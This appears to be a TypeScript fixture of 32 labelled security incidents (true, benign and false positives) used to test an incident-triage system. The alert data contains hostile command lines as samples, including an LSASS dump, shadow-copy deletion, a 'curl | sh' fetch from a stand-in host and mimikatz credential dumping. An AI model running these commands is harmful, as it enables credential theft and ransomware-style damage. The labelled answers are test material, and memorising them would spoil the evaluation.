import { entity, makeAlert } from '../support/incidentBuilders';
import { app, at, host, incident, ip, mailbox, proc, RO, serviceAccount, user, type LabelledIncident } from './incidentCases';

/**
 * Batch 6 (blind, 32 = 13 TP / 10 BP / 9 FP): written before the structural rework of the verdict
 * rules, without reading the rules, and run once before and once after the rework. No rule was tuned
 * on it. Benign and false positives are meant to be recognisable from the data's structure (who,
 * which host, which tool, which infrastructure, what followed), not only from analysts' notes, and
 * several carry no notes at all.
 */
const NG = { countryCode: 'NG', countryName: 'Nigeria', city: 'Abuja', asn: 64530 };
const GB = { countryCode: 'GB', countryName: 'United Kingdom', city: 'London', asn: 64531, organization: 'Contoso Ltd' };
const CLOUDFLARE = { countryCode: 'US', countryName: 'United States', city: 'San Francisco', asn: 13335, organization: 'Cloudflare, Inc.', organizationType: 'Hosting' };
const ZSCALER = { countryCode: 'US', countryName: 'United States', city: 'Ashburn', asn: 62044, organization: 'Zscaler, Inc.', organizationType: 'Hosting' };
const NL_MISLOCATED = { countryCode: 'NL', countryName: 'Netherlands', city: 'Amsterdam', asn: 64532, organization: 'Contoso SAS (Paris office fibre)' };
const DE_HOSTING = { countryCode: 'DE', countryName: 'Germany', city: 'Falkenstein', asn: 64533, organizationType: 'Hosting' };
const fileHash = (value: string): ReturnType<typeof entity> => entity('FileHash', value, { algorithm: 'SHA256', value });
const url = (address: string): ReturnType<typeof entity> => entity('Url', address, { url: address });
const dns = (domainName: string): ReturnType<typeof entity> => entity('Dns', domainName, { domainName });

export const BLIND6_INCIDENT_CASES: LabelledIncident[] = [
  // ---------------------------------------------------------------- TRUE_POSITIVE (13)
  {
    id: 'b6-procdump-lsass-then-pth',
    label: 'TRUE_POSITIVE',
    why: 'A standard user dumps LSASS with ProcDump and the same account then authenticates with NTLM to a file server: credential theft and use.',
    incident: incident(
      'Credential theft on CONTOSO-WS-2231 involving l.brandt',
      'HIGH',
      [
        makeAlert({ displayName: 'LSASS process memory access', description: 'procdump64.exe read the memory of lsass.exe on CONTOSO-WS-2231 and wrote lsass.dmp to C:\\Users\\Public.', severity: 'HIGH', tactics: ['CredentialAccess'], techniques: ['T1003.001'], timeGenerated: at(0) }),
        makeAlert({ displayName: 'Suspected identity theft (pass-the-hash)', description: 'l.brandt used an NTLM hash taken from CONTOSO-WS-2231 to access CONTOSO-FS-02.', productName: 'Microsoft Defender for Identity', severity: 'HIGH', tactics: ['LateralMovement'], techniques: ['T1550.002'], timeGenerated: at(22) }),
      ],
      [host('CONTOSO-WS-2231'), host('CONTOSO-FS-02', 'Windows Server 2022'), user('l.brandt', 'Lena Brandt', true), proc('procdump64.exe', 'procdump64.exe -accepteula -ma lsass.exe C:\\Users\\Public\\lsass.dmp', true)],
    ),
  },
  {
    id: 'b6-aitm-token-replay',
    label: 'TRUE_POSITIVE',
    why: 'Session cookie replayed from Nigeria minutes after the user logged in at the office, then an inbox rule hiding replies: adversary-in-the-middle phishing.',
    incident: incident(
      'Stolen session cookie used for r.osei@contoso.example',
      'HIGH',
      [
        makeAlert({ displayName: 'Anomalous token', description: 'A token issued to r.osei@contoso.example in the London office was presented from 198.51.100.73 (Nigeria) 6 minutes later with a different device fingerprint.', productName: 'Microsoft Entra ID Protection', severity: 'HIGH', tactics: ['CredentialAccess'], techniques: ['T1539'], timeGenerated: at(0) }),
        makeAlert({ displayName: 'New inbox rule moves messages to RSS Feeds', description: 'r.osei@contoso.example created a rule moving all messages containing "payment" to RSS Feeds and marking them read.', productName: 'Microsoft Defender for Cloud Apps', tactics: ['DefenseEvasion'], techniques: ['T1564.008'], timeGenerated: at(11) }),
      ],
      [user('r.osei', 'Richard Osei'), mailbox('r.osei@contoso.example', 'Richard Osei'), ip('198.51.100.73', NG), app('Microsoft Exchange Online', 20893)],
      { comments: ['He opened a "shared document" link from a supplier thread this morning and typed his password on the page. Revoked sessions.'] },
    ),
  },
  {
    id: 'b6-ransomware-file-server',
    label: 'TRUE_POSITIVE',
    why: 'Shadow copies deleted, then thousands of files renamed with a new extension and a ransom note: ransomware.',
    incident: incident(
      'Ransomware activity on CONTOSO-FS-01',
      'HIGH',
      [
        makeAlert({ displayName: 'File backups were deleted', description: 'vssadmin.exe delete shadows /all /quiet was run on CONTOSO-FS-01.', severity: 'HIGH', tactics: ['Impact'], techniques: ['T1490'], timeGenerated: at(0) }),
        makeAlert({ displayName: 'Ransomware behavior detected in the file system', description: '18,400 files on CONTOSO-FS-01 were renamed to *.kr4ken in 7 minutes and README_RESTORE.txt was written in each folder.', severity: 'HIGH', tactics: ['Impact'], techniques: ['T1486'], timeGenerated: at(3) }),
      ],
      [host('CONTOSO-FS-01', 'Windows Server 2019'), serviceAccount('svc-print'), proc('vssadmin.exe', 'vssadmin.exe delete shadows /all /quiet', true)],
    ),
  },
  {
    id: 'b6-kerberoasting',
    label: 'TRUE_POSITIVE',
    why: 'One workstation requested RC4 service tickets for 85 SPNs in two minutes: Kerberoasting.',
    incident: incident(
      'Suspected Kerberos SPN exposure from CONTOSO-WS-1844',
      'MEDIUM',
      [makeAlert({ displayName: 'Suspected Kerberos SPN exposure', description: 'j.nakamura on CONTOSO-WS-1844 requested RC4-encrypted service tickets for 85 service principal names within 2 minutes.', productName: 'Microsoft Defender for Identity', tactics: ['CredentialAccess'], techniques: ['T1558.003'], timeGenerated: at(0) })],
      [host('CONTOSO-WS-1844'), user('j.nakamura', 'Jun Nakamura', true)],
    ),
  },
  {
    id: 'b6-illicit-consent',
    label: 'TRUE_POSITIVE',
    why: 'An unverified app with mail read/write and offline access was consented by one user and immediately read 2,000 messages from a hosting IP.',
    incident: incident(
      'Suspicious OAuth app consent: "PDF Viewer Online"',
      'MEDIUM',
      [
        makeAlert({ displayName: 'Unusual addition of credentials to an OAuth app', description: 'a.kovacs@contoso.example granted "PDF Viewer Online" (unverified publisher) Mail.ReadWrite and offline_access. The reply URL is on a newly registered domain.', productName: 'Microsoft Defender for Cloud Apps', tactics: ['Persistence', 'CredentialAccess'], techniques: ['T1528'], timeGenerated: at(0) }),
        makeAlert({ displayName: 'Suspicious email access by OAuth app', description: '"PDF Viewer Online" read 2,040 messages of a.kovacs@contoso.example from 203.0.113.210 within one hour.', productName: 'Microsoft Defender for Cloud Apps', tactics: ['Collection'], techniques: ['T1114.002'], timeGenerated: at(35) }),
      ],
      [user('a.kovacs', 'Anna Kovacs'), app('PDF Viewer Online', 990112), ip('203.0.113.210', DE_HOSTING)],
    ),
  },
  {
    id: 'b6-cobalt-strike-pipe',
    label: 'TRUE_POSITIVE',
    why: 'rundll32 without arguments with a Cobalt Strike default named pipe, beaconing every 60 seconds to a hosting address.',
    incident: incident(
      'Command and control beacon on CONTOSO-WS-0412',
      'HIGH',
      [
        makeAlert({ displayName: "An active 'CobaltStrike' malware was detected", description: 'A named pipe \\\\.\\pipe\\MSSE-4120-server associated with Cobalt Strike was created by rundll32.exe on CONTOSO-WS-0412.', severity: 'HIGH', tactics: ['CommandAndControl', 'Execution'], techniques: ['T1071.001', 'T1218.011'], timeGenerated: at(0) }),
        makeAlert({ displayName: 'Suspicious network beaconing', description: 'rundll32.exe on CONTOSO-WS-0412 connected to 198.51.100.44:443 every 60 seconds for 3 hours.', severity: 'MEDIUM', tactics: ['CommandAndControl'], techniques: ['T1071.001'], timeGenerated: at(40) }),
      ],
      [host('CONTOSO-WS-0412'), user('p.silva', 'Paula Silva', true), proc('rundll32.exe', 'C:\\Windows\\System32\\rundll32.exe'), ip('198.51.100.44', DE_HOSTING)],
    ),
  },
  {
    id: 'b6-linux-miner',
    label: 'TRUE_POSITIVE',
    why: 'curl | sh on an internet-facing web server installs xmrig, which talks to a mining pool.',
    incident: incident(
      'Crypto mining on web-prod-03',
      'MEDIUM',
      [
        makeAlert({ displayName: 'Suspicious download and execution of a script', description: 'www-data ran a script piped from curl on web-prod-03.', productName: 'Microsoft Defender for Cloud', tactics: ['Execution'], techniques: ['T1059.004'], timeGenerated: at(0) }),
        makeAlert({ displayName: 'Digital currency mining related behavior detected', description: 'A process named kworkerds on web-prod-03 connected to a known mining pool on port 3333 and uses 390% CPU.', productName: 'Microsoft Defender for Cloud', tactics: ['Impact'], techniques: ['T1496'], timeGenerated: at(5) }),
      ],
      [host('web-prod-03', 'Ubuntu 22.04'), proc('sh', 'curl -fsSL http://203.0.113.99/x.sh | sh'), ip('203.0.113.99', DE_HOSTING)],
      { comments: ['wp plugin rce probably. isolating, rebuilding from image'] },
    ),
  },
  {
    id: 'b6-mfa-fatigue-attack',
    label: 'TRUE_POSITIVE',
    why: '27 denied pushes at night from a Romanian address, then one approval; the user did not try to log in.',
    incident: incident(
      'MFA fatigue against h.lindqvist@contoso.example',
      'HIGH',
      [
        makeAlert({ displayName: 'Multiple MFA requests denied', description: 'h.lindqvist@contoso.example denied 27 push notifications between 02:01 and 02:40 for sign-ins from 198.51.100.201 (Romania).', productName: 'Microsoft Entra ID Protection', tactics: ['CredentialAccess'], techniques: ['T1621'], timeGenerated: at(-380) }),
        makeAlert({ displayName: 'Unfamiliar sign-in properties', description: 'h.lindqvist@contoso.example signed in from 198.51.100.201 after approving an MFA prompt.', productName: 'Microsoft Entra ID Protection', tactics: ['InitialAccess'], techniques: ['T1078.004'], timeGenerated: at(-378) }),
      ],
      [user('h.lindqvist', 'Henrik Lindqvist'), ip('198.51.100.201', RO)],
      { comments: ['Henrik: was asleep, phone kept buzzing and he hit approve to make it stop. Not him.'] },
    ),
  },
  {
    id: 'b6-dcsync-workstation',
    label: 'TRUE_POSITIVE',
    why: 'Directory replication requested from a workstation, not a domain controller.',
    incident: incident(
      'Suspected DCSync attack from CONTOSO-WS-3310',
      'HIGH',
      [makeAlert({ displayName: 'Suspected DCSync attack (replication of directory services)', description: 'Replication requests were sent from CONTOSO-WS-3310 (not a domain controller) to CONTOSO-DC-01 by m.obi.', productName: 'Microsoft Defender for Identity', severity: 'HIGH', tactics: ['CredentialAccess'], techniques: ['T1003.006'], timeGenerated: at(0) })],
      [host('CONTOSO-WS-3310'), host('CONTOSO-DC-01', 'Windows Server 2022'), user('m.obi', 'Martin Obi', true)],
    ),
  },
  {
    id: 'b6-iis-webshell',
    label: 'TRUE_POSITIVE',
    why: 'IIS worker spawns cmd running whoami and net group from a newly written .aspx in an upload folder: web shell.',
    incident: incident(
      'Possible web shell on CONTOSO-WEB-02',
      'HIGH',
      [
        makeAlert({ displayName: 'Possible web shell installation', description: 'w3wp.exe wrote upload/img_4411.aspx on CONTOSO-WEB-02.', severity: 'HIGH', tactics: ['Persistence'], techniques: ['T1505.003'], timeGenerated: at(0) }),
        makeAlert({ displayName: 'Suspicious process executed by IIS worker', description: 'w3wp.exe started cmd.exe /c "whoami & net group \\"domain admins\\" /domain".', severity: 'HIGH', tactics: ['Discovery', 'Execution'], techniques: ['T1033', 'T1069.002'], timeGenerated: at(4) }),
      ],
      [host('CONTOSO-WEB-02', 'Windows Server 2019'), proc('cmd.exe', 'cmd.exe /c "whoami & net group \\"domain admins\\" /domain"'), ip('203.0.113.140')],
    ),
  },
  {
    id: 'b6-aws-key-gpu-instances',
    label: 'TRUE_POSITIVE',
    why: 'A CI access key used from an unknown hosting address to start 40 GPU instances in regions the company never uses.',
    incident: incident(
      'Unusual EC2 launches with ci-deploy access key',
      'HIGH',
      [makeAlert({ displayName: 'Unusual resource creation in cloud account', description: 'Access key AKIA...7Q of IAM user ci-deploy, normally used only from the build VPC, launched 40 p3.8xlarge instances in ap-southeast-1 and sa-east-1 from 203.0.113.18.', productName: 'Microsoft Defender for Cloud', severity: 'HIGH', tactics: ['Impact', 'InitialAccess'], techniques: ['T1496', 'T1078.004'], timeGenerated: at(0) })],
      [entity('Account', 'ci-deploy', { accountName: 'ci-deploy', cloudAppAccountId: 'arn:aws:iam::111122223333:user/ci-deploy' }), ip('203.0.113.18', DE_HOSTING)],
      { comments: ['key was in a public repo fork since tuesday. rotated, instances terminated.'] },
    ),
  },
  {
    id: 'b6-phish-click-credential',
    label: 'TRUE_POSITIVE',
    why: 'Users clicked a link to a look-alike sign-in page and one of them signed in from a new address right after.',
    incident: incident(
      'Malicious URL click and suspicious sign-in',
      'HIGH',
      [
        makeAlert({ displayName: 'A potentially malicious URL click was detected', description: '4 users clicked https://contoso-sso-login.example/auth in a message from it-helpdesk@contoso-support.example.', productName: 'Microsoft Defender for Office 365', tactics: ['InitialAccess'], techniques: ['T1566.002'], timeGenerated: at(0) }),
        makeAlert({ displayName: 'Atypical travel', description: 'e.marsh@contoso.example signed in from 192.0.2.180 (Romania) 9 minutes after clicking, 1,900 km from the previous sign-in.', productName: 'Microsoft Entra ID Protection', tactics: ['InitialAccess'], techniques: ['T1078'], timeGenerated: at(9) }),
      ],
      [user('e.marsh', 'Evan Marsh'), url('https://contoso-sso-login.example/auth'), ip('192.0.2.180', RO), entity('MailMessage', 'Action required: password expiry', { p1Sender: 'it-helpdesk@contoso-support.example', p2Sender: 'it-helpdesk@contoso-support.example', senderIP: '192.0.2.14', recipient: 'e.marsh@contoso.example', subject: 'Action required: password expiry', urls: ['https://contoso-sso-login.example/auth'], deliveryAction: 'Delivered' })],
    ),
  },
  {
    id: 'b6-rdp-bruteforce-success',
    label: 'TRUE_POSITIVE',
    why: 'Thousands of failed RDP logons from one external address, then a success as administrator followed by a new local admin account.',
    incident: incident(
      'RDP brute force succeeded on CONTOSO-APP-07',
      'HIGH',
      [
        makeAlert({ displayName: 'Successful RDP brute force attack', description: '4,312 failed logons from 198.51.100.66 to CONTOSO-APP-07 over 50 minutes, followed by a successful logon as administrator.', productName: 'Microsoft Defender for Cloud', severity: 'HIGH', tactics: ['CredentialAccess', 'InitialAccess'], techniques: ['T1110.001'], timeGenerated: at(0) }),
        makeAlert({ displayName: 'New local administrator created', description: 'net user support_tmp /add and net localgroup administrators support_tmp /add were run on CONTOSO-APP-07.', tactics: ['Persistence'], techniques: ['T1136.001'], timeGenerated: at(6) }),
      ],
      [host('CONTOSO-APP-07', 'Windows Server 2016'), ip('198.51.100.66', RO), entity('Account', 'administrator', { accountName: 'administrator', ntDomain: 'CONTOSO-APP-07' }), proc('net.exe', 'net localgroup administrators support_tmp /add', true)],
    ),
  },
  // ---------------------------------------------------------------- BENIGN_POSITIVE (10)
  {
    id: 'b6-admin-psexec-paw',
    label: 'BENIGN_POSITIVE',
    why: 'A tier-1 admin account runs PsExec from a privileged access workstation to servers under a change ticket.',
    incident: incident(
      'PsExec used to run commands on 14 servers',
      'MEDIUM',
      [makeAlert({ displayName: 'Remote execution with PsExec', description: 'adm-kpatel used PsExec from CONTOSO-PAW-03 to run msiexec /i \\\\CONTOSO-SW-01\\pkg\\agent-7.4.msi /qn on 14 servers.', tactics: ['LateralMovement', 'Execution'], techniques: ['T1569.002', 'T1021.002'], timeGenerated: at(0) })],
      [host('CONTOSO-PAW-03'), serviceAccount('adm-kpatel'), proc('PsExec64.exe', 'PsExec64.exe @servers.txt -s msiexec /i \\\\CONTOSO-SW-01\\pkg\\agent-7.4.msi /qn', true)],
      { comments: ['Krish rolling the monitoring agent 7.4 to the app tier, CHG0041233.'] },
    ),
  },
  {
    id: 'b6-vuln-scanner-sweep',
    label: 'BENIGN_POSITIVE',
    why: 'The vulnerability scanner host and its service account sweep the network on their weekly schedule.',
    incident: incident(
      'Network scanning from CONTOSO-TNB-01',
      'LOW',
      [
        makeAlert({ displayName: 'Network-mapping reconnaissance (DNS)', description: 'CONTOSO-TNB-01 performed 12,800 DNS lookups for internal addresses.', productName: 'Microsoft Defender for Identity', severity: 'LOW', tactics: ['Discovery'], techniques: ['T1046'], timeGenerated: at(0) }),
        makeAlert({ displayName: 'Port sweep detected', description: 'CONTOSO-TNB-01 (10.20.0.15) connected to 1,240 hosts on 22 ports in 40 minutes.', productName: 'Microsoft Sentinel', severity: 'LOW', tactics: ['Discovery'], techniques: ['T1046'], timeGenerated: at(2) }),
      ],
      [host('CONTOSO-TNB-01', 'Ubuntu 22.04', { deviceRole: 'Vulnerability scanner' }), serviceAccount('svc-tenable-scan'), ip('10.20.0.15')],
    ),
  },
  {
    id: 'b6-pentest-mimikatz',
    label: 'BENIGN_POSITIVE',
    why: 'Mimikatz by the external assessor account on the assessor laptop within the labelled, authorised test window.',
    incident: incident(
      'Mimikatz detected on CONTOSO-LT-EXT-09',
      'HIGH',
      [makeAlert({ displayName: "'Mimikatz' hacktool was detected", description: 'mimikatz.exe was run on CONTOSO-LT-EXT-09 by ext-redteam01.', severity: 'HIGH', tactics: ['CredentialAccess'], techniques: ['T1003.001'], timeGenerated: at(0) })],
      [host('CONTOSO-LT-EXT-09'), serviceAccount('ext-redteam01'), proc('mimikatz.exe', 'mimikatz.exe "sekurlsa::logonpasswords" exit', true)],
      { labels: ['Pentest-2025-Q2', 'Authorized-Assessment'], comments: ['Assessor laptop, inside the 1-5 June scope letter.'] },
    ),
  },
  {
    id: 'b6-backup-mass-modify',
    label: 'BENIGN_POSITIVE',
    why: 'The backup agent under its service account touches tens of thousands of files at 01:00, as it does every night; no renames, no shadow-copy deletion.',
    incident: incident(
      'Mass file modification on CONTOSO-FS-03',
      'MEDIUM',
      [makeAlert({ displayName: 'Unusual mass file modification', description: 'VeeamAgent.exe running as svc-veeam modified attributes of 48,210 files on CONTOSO-FS-03 between 01:00 and 01:22.', tactics: ['Impact'], techniques: ['T1486'], timeGenerated: at(-420) })],
      [host('CONTOSO-FS-03', 'Windows Server 2022'), serviceAccount('svc-veeam'), proc('VeeamAgent.exe', '"C:\\Program Files\\Veeam\\Endpoint Backup\\VeeamAgent.exe" -job nightly-fs03')],
    ),
  },
  {
    id: 'b6-mfa-new-phone',
    label: 'BENIGN_POSITIVE',
    why: 'Denied MFA prompts from the office address while the user moved to a new phone, which was registered minutes earlier and then approved.',
    incident: incident(
      'Multiple MFA requests denied for c.duarte@contoso.example',
      'MEDIUM',
      [
        makeAlert({ displayName: 'Multiple MFA requests denied', description: 'c.duarte@contoso.example denied 6 push notifications between 09:02 and 09:09 for sign-ins from 192.0.2.10 (the London office). A new Microsoft Authenticator device was registered at 08:58; the next prompt was approved from it.', productName: 'Microsoft Entra ID Protection', tactics: ['CredentialAccess'], techniques: ['T1621'], timeGenerated: at(62) }),
      ],
      [user('c.duarte', 'Carla Duarte'), ip('192.0.2.10', GB)],
      { comments: ['New iPhone today; the old one was still getting the prompts while she set it up. She confirmed.'] },
    ),
  },
  {
    id: 'b6-identity-governance-recon',
    label: 'BENIGN_POSITIVE',
    why: 'The identity-governance service account enumerates groups from its own server every day; that is its job.',
    incident: incident(
      'User and group membership reconnaissance (SAMR) by svc-identityiq',
      'LOW',
      [makeAlert({ displayName: 'User and group membership reconnaissance (SAMR)', description: 'svc-identityiq on CONTOSO-IIQ-01 queried the membership of Domain Admins, Enterprise Admins and 310 other groups on CONTOSO-DC-02.', productName: 'Microsoft Defender for Identity', severity: 'LOW', tactics: ['Discovery'], techniques: ['T1087.002', 'T1069.002'], timeGenerated: at(-300) })],
      [serviceAccount('svc-identityiq'), host('CONTOSO-IIQ-01', 'Windows Server 2022'), host('CONTOSO-DC-02', 'Windows Server 2022')],
    ),
  },
  {
    id: 'b6-tanium-script',
    label: 'BENIGN_POSITIVE',
    why: 'The endpoint management client runs a hidden PowerShell script on 280 managed hosts at once.',
    incident: incident(
      'Hidden PowerShell on multiple endpoints',
      'MEDIUM',
      [makeAlert({ displayName: 'Suspicious PowerShell command line', description: 'TaniumClient.exe started powershell.exe -WindowStyle Hidden -ExecutionPolicy Bypass on 280 devices within 3 minutes.', tactics: ['Execution'], techniques: ['T1059.001'], timeGenerated: at(0) })],
      [host('CONTOSO-WS-1120'), host('CONTOSO-WS-1187'), entity('Account', 'SYSTEM', { accountName: 'SYSTEM', ntDomain: 'NT AUTHORITY' }), proc('powershell.exe', 'powershell.exe -WindowStyle Hidden -ExecutionPolicy Bypass -File "C:\\Program Files (x86)\\Tanium\\Tanium Client\\Tools\\Scripts\\collect-patch-state.ps1"')],
      { comments: ['patch-state sensor package, pushed from the Tanium console by the EUC team'] },
    ),
  },
  {
    id: 'b6-phish-simulation-click',
    label: 'BENIGN_POSITIVE',
    why: 'The clicks are on the sanctioned phishing-simulation campaign (simulation label, training platform URL).',
    incident: incident(
      'Users clicked a potentially malicious URL',
      'LOW',
      [makeAlert({ displayName: 'A potentially malicious URL click was detected', description: '11 users clicked links in "Your parcel could not be delivered" from notices@parcel-track.example.', productName: 'Microsoft Defender for Office 365', severity: 'LOW', tactics: ['InitialAccess'], techniques: ['T1566.002'], timeGenerated: at(0) })],
      [user('g.weber', 'Greta Weber'), url('https://parcel-track.example/t/8821')],
      { labels: ['Attack Simulation Training', 'Q2 awareness campaign'] },
    ),
  },
  {
    id: 'b6-helpdesk-password-resets',
    label: 'BENIGN_POSITIVE',
    why: 'A service-desk agent resets 22 passwords on Monday morning from the service-desk host, each tied to a ticket.',
    incident: incident(
      'Multiple password resets by t.ferreira',
      'LOW',
      [makeAlert({ displayName: 'Multiple password resets', description: 't.ferreira reset passwords for 22 accounts between 08:05 and 08:50 from CONTOSO-SD-04.', productName: 'Microsoft Sentinel', severity: 'LOW', tactics: ['Persistence'], techniques: ['T1098'], timeGenerated: at(50) })],
      [user('t.ferreira', 'Tiago Ferreira', true), host('CONTOSO-SD-04')],
      { comments: ['Service desk queue after the weekend expiry batch - 22 tickets, all matched.'] },
    ),
  },
  {
    id: 'b6-breakglass-drill',
    label: 'BENIGN_POSITIVE',
    why: 'The emergency account signs in from headquarters during its scheduled quarterly drill.',
    incident: incident(
      'Sign-in by emergency access account',
      'HIGH',
      [makeAlert({ displayName: 'Emergency access account sign-in', description: 'breakglass01@contoso.example signed in to the Azure portal from 192.0.2.10.', productName: 'Microsoft Sentinel', severity: 'HIGH', tactics: ['InitialAccess', 'PrivilegeEscalation'], techniques: ['T1078.004'], timeGenerated: at(0) })],
      [user('breakglass01', 'Emergency Access 01'), ip('192.0.2.10', GB)],
      { labels: ['Quarterly break-glass drill'], comments: ['Drill per runbook IAM-07, two admins present, password re-sealed.'] },
    ),
  },
  // ---------------------------------------------------------------- FALSE_POSITIVE (9)
  {
    id: 'b6-ti-cloudflare-ip',
    label: 'FALSE_POSITIVE',
    why: 'A threat-intelligence match on a Cloudflare anycast address serving thousands of sites; a single low alert and nothing else happened.',
    incident: incident(
      'Connection to a malicious IP address',
      'LOW',
      [makeAlert({ displayName: 'Connection to a known malicious IP (TI map)', description: 'CONTOSO-WS-0911 connected to 104.16.0.0/12 address 198.51.100.12 on port 443, which appears in a threat-intelligence feed (confidence 25, first seen 2023).', productName: 'Microsoft Sentinel', severity: 'LOW', tactics: ['CommandAndControl'], techniques: ['T1071'], timeGenerated: at(0) })],
      [host('CONTOSO-WS-0911'), ip('198.51.100.12', CLOUDFLARE)],
    ),
  },
  {
    id: 'b6-impossible-travel-zscaler',
    label: 'FALSE_POSITIVE',
    why: 'Impossible travel between the London office and the company web proxy egress in Ashburn.',
    incident: incident(
      'Impossible travel activity for y.haddad@contoso.example',
      'MEDIUM',
      [makeAlert({ displayName: 'Impossible travel activity', description: 'y.haddad@contoso.example signed in from London (192.0.2.10) and 14 minutes later from Ashburn, US (198.51.100.230).', productName: 'Microsoft Defender for Cloud Apps', tactics: ['InitialAccess'], techniques: ['T1078'], timeGenerated: at(0) })],
      [user('y.haddad', 'Yasmin Haddad'), ip('192.0.2.10', GB), ip('198.51.100.230', ZSCALER)],
      { comments: ['Second address is one of our Zscaler egress nodes.'] },
    ),
  },
  {
    id: 'b6-signed-onedrive-hash',
    label: 'FALSE_POSITIVE',
    why: 'A hash indicator matched a Microsoft-signed OneDrive installer that is on every machine; the indicator is wrong.',
    incident: incident(
      'File hash indicator match on 310 devices',
      'MEDIUM',
      [makeAlert({ displayName: 'Malicious file hash match', description: 'OneDriveSetup.exe (signed by Microsoft Corporation, valid signature) on 310 devices matches a SHA256 indicator imported from a community feed yesterday.', productName: 'Microsoft Sentinel', tactics: ['Execution'], techniques: ['T1204.002'], timeGenerated: at(0) })],
      [fileHash('9f2c7d3b8a61e0c4d5b7a9e1f3c2d4b6a8e0c1f3d5b7a9e2c4d6f8a0b2c4e6f8'), entity('File', 'OneDriveSetup.exe', { directory: 'C:\\Program Files\\Microsoft OneDrive', fileName: 'OneDriveSetup.exe' }), host('CONTOSO-WS-0102')],
    ),
  },
  {
    id: 'b6-rule-validation-test',
    label: 'FALSE_POSITIVE',
    why: 'A detection engineer fired the analytic rule on purpose to validate it.',
    incident: incident(
      '[TEST] Suspicious use of certutil to decode',
      'MEDIUM',
      [makeAlert({ displayName: '[TEST] Suspicious use of certutil to decode', description: 'certutil -decode was run on CONTOSO-LAB-05.', productName: 'Microsoft Sentinel', tactics: ['DefenseEvasion'], techniques: ['T1140'], timeGenerated: at(0) })],
      [host('CONTOSO-LAB-05'), user('soc.det-eng', 'SOC Detection Engineering'), proc('certutil.exe', 'certutil -decode C:\\lab\\atomic\\T1140.b64 C:\\lab\\atomic\\T1140.txt')],
      { comments: ['me — validating the updated rule before prod. closing.'] },
    ),
  },
  {
    id: 'b6-geoip-mislocation',
    label: 'FALSE_POSITIVE',
    why: 'The "new country" is the Paris office\'s new fibre range, which the geo-IP database places in the Netherlands.',
    incident: incident(
      'Sign-in from a new country for 9 users',
      'MEDIUM',
      [makeAlert({ displayName: 'Activity from infrequent country', description: '9 users signed in from 192.0.2.200 (Netherlands), a country not seen for them in the last 30 days.', productName: 'Microsoft Defender for Cloud Apps', tactics: ['InitialAccess'], techniques: ['T1078'], timeGenerated: at(0) })],
      [user('l.bernard', 'Louis Bernard'), user('m.petit', 'Manon Petit'), ip('192.0.2.200', NL_MISLOCATED)],
      { comments: ['Address registered to us, Paris site moved ISP on Friday; geo lookup puts it in Amsterdam. Users were badged in at Paris.'] },
    ),
  },
  {
    id: 'b6-cloudfront-dga',
    label: 'FALSE_POSITIVE',
    why: 'The "random-looking" domain is a CloudFront distribution hostname, not a DGA domain.',
    incident: incident(
      'Possible DGA domain resolution',
      'LOW',
      [makeAlert({ displayName: 'Possible DGA domain', description: 'CONTOSO-WS-1400 resolved d3k8f2x9q1mz7p.cloudfront.net, a name with high entropy.', productName: 'Microsoft Sentinel', severity: 'LOW', tactics: ['CommandAndControl'], techniques: ['T1568.002'], timeGenerated: at(0) })],
      [host('CONTOSO-WS-1400'), dns('d3k8f2x9q1mz7p.cloudfront.net')],
    ),
  },
  {
    id: 'b6-ml-inhouse-binary',
    label: 'FALSE_POSITIVE',
    why: 'A machine-learning detection on the company\'s own signed payroll build; the vendor confirmed it clean on submission.',
    incident: incident(
      "'Wacatac' malware was detected on CONTOSO-WS-0655",
      'MEDIUM',
      [makeAlert({ displayName: "'Wacatac' malware was detected", description: 'Trojan:Win32/Wacatac.B!ml was detected in ContosoPayroll.exe (signed by Contoso Ltd code-signing certificate) on CONTOSO-WS-0655.', tactics: ['Execution'], techniques: ['T1204'], timeGenerated: at(0) })],
      [host('CONTOSO-WS-0655'), entity('File', 'ContosoPayroll.exe', { directory: 'C:\\Program Files\\Contoso\\Payroll', fileName: 'ContosoPayroll.exe' }), user('b.novak', 'Bruno Novak', true)],
      { comments: ['Submitted to Microsoft, came back "no threat detected", definitions updated.'] },
    ),
  },
  {
    id: 'b6-ti-private-address',
    label: 'FALSE_POSITIVE',
    why: 'The threat-intelligence indicator is a private RFC 1918 address (our own printer subnet), an import mistake.',
    incident: incident(
      'Communication with a malicious IP on 140 hosts',
      'MEDIUM',
      [makeAlert({ displayName: 'Connection to a known malicious IP (TI map)', description: '140 devices connected to 10.40.8.25 on port 9100, which is listed as a command and control address in a threat-intelligence feed.', productName: 'Microsoft Sentinel', tactics: ['CommandAndControl'], techniques: ['T1071'], timeGenerated: at(0) })],
      [ip('10.40.8.25'), host('CONTOSO-WS-0301')],
    ),
  },
  {
    id: 'b6-security-log-full',
    label: 'FALSE_POSITIVE',
    why: 'The "log cleared" alert fired on event 1104 (log full), not 1102 (cleared); nobody cleared anything.',
    incident: incident(
      'Security event log cleared on CONTOSO-SQL-02',
      'HIGH',
      [makeAlert({ displayName: 'Event log cleared', description: 'Rule matched event ID 1104 ("The security log is now full") on CONTOSO-SQL-02; no event 1102 and no process clearing the log was seen.', productName: 'Microsoft Sentinel', severity: 'HIGH', tactics: ['DefenseEvasion'], techniques: ['T1070.001'], timeGenerated: at(0) })],
      [host('CONTOSO-SQL-02', 'Windows Server 2019')],
      { comments: ['Rule logic includes 1104 by mistake. Raised a fix for the rule.'] },
    ),
  },
];
